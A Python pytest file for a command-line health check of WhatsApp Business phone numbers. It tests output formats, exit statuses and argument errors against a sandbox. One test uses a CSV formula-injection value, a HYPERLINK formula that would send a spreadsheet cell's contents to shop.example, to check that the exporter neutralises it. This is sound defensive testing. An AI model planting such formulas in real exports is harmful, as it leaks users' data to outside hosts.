"""`wa-phone health`: what it shows, in which form, and with which status it ends."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from wa_phone_async.sandbox import EMPTY_WABA, SMALL_WABA, Sandbox

pytest.importorskip("cyclopts", reason="the extra `cli` is not installed")

from wa_phone_async.cli import app
from wa_phone_async.health.rules import RULES
from wa_phone_async.sandbox.demo import SICK_WABA, add_troubles

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(graph_sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    monkeypatch.setenv("WA_BASE_URL", graph_sandbox.url)
    monkeypatch.setenv("WA_ACCESS_TOKEN", "an-invented-token")

    def run(*arguments: str) -> tuple[int, str, str]:
        return app.run(("health", *arguments)), *capsys.readouterr()

    return run


def test_the_sandbox_shows_one_of_each_kind(run: Run) -> None:
    status, out, err = run("--sandbox")
    lines = out.splitlines()
    assert {line.split()[1] for line in lines} == RULES.keys()
    assert {line.split()[0] for line in lines} == {"error", "warning", "info"}
    assert status == 0
    assert "errors, " in err
    assert "not checked" not in err


@pytest.mark.parametrize("form", ["table", "json", "jsonl", "csv"])
def test_names_of_shops_harm_no_reader(form: str, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    _, out, _ = run("--sandbox", "--checks", "quality.red", "--format", form)
    assert all(line.isprintable() for line in out.splitlines())
    assert "=HYPERLINK" in out
    if form == "csv":
        rows = list(csv.DictReader(io.StringIO(out)))
        assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
        assert any(row["name"].startswith("'=HYPERLINK") for row in rows)
    elif form != "table":
        found = json.loads(out) if form == "json" else [json.loads(line) for line in out.splitlines()]
        names = [finding["name"] for finding in found if "HYPERLINK" in str(finding.get("name"))]
        assert names == ['=HYPERLINK("https://shop.example?q="&A1,"Sale")']


def test_a_terminal_gets_lines_that_fit(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    monkeypatch.setattr("wa_phone_async.cli.terminal.findings.takes_escapes", lambda _: True)
    _, out, _ = run("--sandbox", "--checks", "status,sending.account_blocked")
    lines = out.splitlines()
    assert "\x1b[1m\x1b[31merror  \x1b[0m status.banned" in out
    assert max(len(line.replace("\x1b[1m", "").replace("\x1b[31m", "").replace("\x1b[0m", "")) for line in lines) <= 75
    assert any(line.startswith("        -> ") for line in lines)
    assert "(3 numbers)" in " ".join(out.split())


@pytest.mark.parametrize(
    ("checks", "fail_on", "status"),
    [
        ("quality.yellow", "warning", 4),  # the account that is not there is an error, whatever is checked
        ("status.banned", "error", 4),
    ],
)
def test_the_status_tells_what_was_found(checks: str, fail_on: str, status: int, run: Run) -> None:
    assert run("--sandbox", "--checks", checks, "--fail-on", fail_on)[0] == status


def test_the_status_is_0_if_nothing_is_as_bad(run: Run, graph_sandbox: Sandbox) -> None:
    add_troubles(graph_sandbox)
    assert run(SICK_WABA, "--checks", "quality", "--fail-on", "error")[0] == 0
    assert run(SICK_WABA, "--checks", "quality", "--fail-on", "warning")[0] == 4
    assert run(EMPTY_WABA, "--checks", "quality", "--fail-on", "warning")[0] == 0


@pytest.mark.parametrize(("form", "out"), [("table", ""), ("json", "[]\n"), ("jsonl", "")])
def test_nothing_found_is_written_as_such(form: str, out: str, run: Run) -> None:
    assert run(EMPTY_WABA, "--checks", "quality", "--format", form)[1] == out
    assert run(EMPTY_WABA, "--checks", "quality", "--format", "csv")[1].startswith("severity,code,")


def test_a_file_costs_no_call_and_needs_no_token(
    run: Run, graph_sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("WA_ACCESS_TOKEN")
    path = tmp_path / "numbers.jsonl"
    path.write_text('{"waba_id": "1", "id": "2", "status": "BANNED"}\n')
    graph_sandbox.requests.clear()
    status, out, err = run(str(path), "--fail-on", "error")
    assert (status, graph_sandbox.requests) == (4, [])
    assert out.startswith("error status.banned number 2: Number 2 is banned. ")
    assert "1 error, 0 warnings, 0 infos; 1 number of 1 account, 0 calls; not checked, since their fields" in err


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        ((), "WABA_ID or FILE must be given, or --sandbox to try it"),
        ((SMALL_WABA, "numbers.csv"), "WABA_ID must be"),
        (("numbers.csv",), "FILE must be a file that an export has written, not 'numbers.csv': No such file"),
        (("--sandbox", "--checks", "sttus"), "--checks must be codes or groups"),
    ],
)
def test_a_wrong_argument_is_an_error(arguments: tuple[str, ...], problem: str, run: Run) -> None:
    status, out, err = run(*arguments)
    assert (status, out) == (2, "")
    assert f"wa-phone: {problem}" in err
